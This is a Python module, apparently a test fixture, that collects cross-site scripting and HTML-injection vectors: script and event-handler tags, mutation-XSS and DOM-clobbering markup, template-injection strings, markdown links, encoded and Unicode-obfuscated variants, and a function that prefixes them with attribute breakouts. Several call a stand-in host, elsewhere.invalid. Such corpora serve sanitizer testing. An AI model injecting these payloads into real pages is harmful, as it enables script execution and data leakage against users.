"""What people write who want a page to run it: vectors, and the ways out of wherever a page may have put them.

Each calls `hit()` or one of the functions that stop a page, or asks another server, when it is taken for anything but text.
"""

from typing import Final

ELSEWHERE: Final = "//elsewhere.invalid/x"

_SCRIPTS: Final = (
    "<script>hit()</script>", "<script src=//elsewhere.invalid/x></script>", "<ScRiPt >hit()</sCrIpT >", "<script/x>hit()</script>",
    "<<script>hit()//<</script>", "<script type=module>hit()</script>", "<svg><script>hit()</script></svg>", "<svg><script>hit&#40;&#41;</script>",
    "<svg><script href=data:text/javascript,hit()></script></svg>", "<math><annotation-xml encoding=text/html><script>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
)  # fmt: skip
_HANDLERS: Final = (
    "<img src=x onerror=hit()>", "<img src=x:x onerror='alert(1)'>", '<img """><img src=x onerror=hit()>', "<IMG/SRC=x/ONERROR=hit()>",
    "<image src=x onerror=hit()>", "<svg onload=hit()>", "<svg/onload=alert(1)>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=hit()>", "<svg><a xlink:href=javascript:hit()><text x=9 y=9>x</text></a>",
    "<math href=javascript:hit()>x</math>", "<body onload=hit()>", "<video src=x onerror=hit()>", "<audio src=x onerror=prompt(1)>",
    "<video><source onerror=hit()></video>", "<details open ontoggle=hit()>x</details>", "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=confirm(1)>", "<textarea autofocus onfocus=hit()>", "<marquee onstart=hit()>x</marquee>", "<p onpointerenter=hit()>x",
    "<a tabindex=1 onfocus=hit() autofocus>x</a>", "<dialog open onclose=hit()><form method=dialog><button autofocus>x",
    "<x contenteditable onblur=hit()>x", "<button popovertarget=x>x</button><x id=x popover onbeforetoggle=hit()>", "<style onload=hit()></style>",
    "<input type=image src=x onerror=hit()>", "<object data=x onerror=hit()></object>", "<iframe onload=hit()></iframe>",
)  # fmt: skip
_LOADING: Final = (
    "<iframe src=javascript:hit()></iframe>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<embed src=javascript:hit()>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.hit()&gt;'></iframe>", "<object data=data:text/html,<script>hit()</script>></object>",
    "<embed src=//elsewhere.invalid/x>", "<link rel=stylesheet href=//elsewhere.invalid/x>", "<link rel=import href=//elsewhere.invalid/x>",
    "<link rel=preload as=script href=//elsewhere.invalid/x>", "<base href=//elsewhere.invalid/>", "<base target=_blank>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.invalid/x'>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<meta name=referrer content=unsafe-url>", "<style>*{background:url(//elsewhere.invalid/x)}</style>",
    "<style>@import'//elsewhere.invalid/x';</style>", "<p style=background:url(//elsewhere.invalid/x)>x", "<p style='width:expression(hit())'>x",
    "<img src=//elsewhere.invalid/x>", "<img srcset='//elsewhere.invalid/x 1x'>", "<picture><source srcset=//elsewhere.invalid/x><img></picture>",
    "<table background=//elsewhere.invalid/x>", "<video poster=//elsewhere.invalid/x>", "<form action=//elsewhere.invalid/x><button autofocus>x",
    "<button form=ask formaction=//elsewhere.invalid/x>x", "<frameset><frame src=javascript:hit()></frameset>", "<a href=javascript:hit()>x</a>",
    "<a href='jav&#x09;ascript:hit()'>x</a>", "<a href=data:text/html,<script>hit()</script>>x</a>", "<a href=vbscript:hit()>x</a>",
    "<a href=# ping=//elsewhere.invalid/x>x</a>",
)  # fmt: skip
_SMUGGLED: Final = (
    "<form id=ask><input name=submit>", "<img name=getElementById>", "<a id=chat><a id=chat name=x href=x:hit>",
    "<form name=body><input name=append>", "<input id=question name=history value='[]'>", "<div id=thread><div id=source><div id=conversations>",
    "<form id=upload data-files=0 data-bytes=0>", "<a class=closest href=/search?q=x>x</a>", "<a href='/?q=hit'>x</a>",
    "<button data-do=delete>x</button>", "<b data-do=export>x</b>", "<a class=marker data-marker=1 href=x>1</a>",
    "<article class='turn answered' data-answer='{}'>", "<template id=pending><img src=x onerror=hit()></template>",
    "<section class=hits>x</section>", "<ol class=questions><li><a href=javascript:hit()>x</a></ol>", "<mark id=quote>x</mark>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'>", "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<select><template><style><!--</style><a rel='--></style><svg onload=hit()>'>", "<xmp><p title='</xmp><svg onload=hit()>'>",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>", "<b><template shadowrootmode=open><svg onload=hit()></template>",
    "<![CDATA[><svg onload=hit()>]]>", "<!--><svg onload=hit()>", "<!-- --!><svg onload=hit()>", "<?xml version='1.0'?><svg onload=hit()>",
    "<!doctype x><plaintext>",
)  # fmt: skip

# Where the words stood in an attribute, in a raw text, or in one of our own elements, these lead out of it.
BREAKOUTS: Final = ("", '">', "'>", "</textarea></title></style></script>", "</noscript></template>", "-->", "</q></cite></a></p></blockquote>")

# What needs no way out, as it is no tag.
_WORDS: Final = (
    "javascript:hit()", "JaVaScRiPt:hit()//", "javascript://%0ahit()", "java\tscript:hit()", "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "vbscript:hit()", "//elsewhere.invalid/x", "http://elsewhere.invalid/x?a=1&b=2",
    '" onfocus=hit() autofocus x="', "' onfocus=hit() autofocus x='", "` onfocus=hit() autofocus x=`", "x onmouseover=hit() x",
    '" style="background:url(//elsewhere.invalid/x)', "\\\" onload=hit() x=\\\"", "';hit();'", "\";hit();\"", "`;${hit()};`", "\\';hit();//",
    "</script><svg onload=hit()>", "*/hit()/*", "-hit()-", "${hit()}", "#{hit()}", "{{7*7}}", "{{hit()}}", "{{constructor.constructor('hit()')()}}",
    "{% for a in (1, 2) %}x{% endfor %}", "{{ config }}", "{# x #}", "<%= 7*7 %>", "[[7*7]]", "{7*7}", "{{''.__class__.__mro__}}",
    "[x](javascript:hit())", "![x](//elsewhere.invalid/x)", "[x](<javascript:hit()>)", "[![x](x)](javascript:hit())", "<javascript:hit()>",
    "[x][y] [y]: javascript:hit()", "![x][y] [y]: //elsewhere.invalid/x", "[x]: //elsewhere.invalid/x 'x'", "[hit]: <javascript:hit()>",
    "<http://elsewhere.invalid/x>", "&lt;script&gt;hit()&lt;/script&gt;", "&#60;svg onload=hit()&#62;", "&#x3c;svg onload=hit()&#x3e;",
    "&amp;lt;svg onload=hit()&amp;gt;", "&lt;img src=x onerror=hit()", "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "\\x3csvg onload=hit()\\x3e", "%253Csvg%2520onload=hit()%253E", "<svg\x1fonload=hit()>",
    "<svg\tonload=hit()>", "<img\u00a0src=x\u2003onerror=hit()>", "<s\u200bcript>hit()</s\u200bcript>", "<scr\x00ipt>hit()</scr\x00ipt>",
    "\ufeff<svg onload=hit()>", "\u202e<svg onload=hit()>\u202c x", "\u2066<svg onload=hit()>\u2069 x", "\uff1csvg onload=hit()\uff1e",
    "\u2028<svg onload=hit()>", "\u0141\u0300<svg onload=hit()>", "<svg\nonload=hit()\n>", "<img src=x\ronerror=hit()>", "<svg onload=hit()",
    "<svg onload=hit()//", "<!-- x", "<!--", "<script>", "<textarea>", "<title>", "<style>", "<plaintext>", "<template>", "</article>",
    "</main></body></html>", "</q>", "__proto__", "constructor", "data-do=delete", "javascript&colon;hit&lpar;&rpar;",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(hit())//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=hit()//>",
)  # fmt: skip

VECTORS: Final = (*_SCRIPTS, *_HANDLERS, *_LOADING, *_SMUGGLED)


def payloads() -> list[str]:
    """The vectors as they are, what is no tag, and each vector behind one of the ways out, every third behind a second one, by turns."""
    out = BREAKOUTS[1:]
    led = [out[(number + turn) % len(out)] + vector for number, vector in enumerate(VECTORS) for turn in ((0, 2) if number % 3 == 0 else (0,))]
    return list(dict.fromkeys([*VECTORS, *_WORDS, *led]))
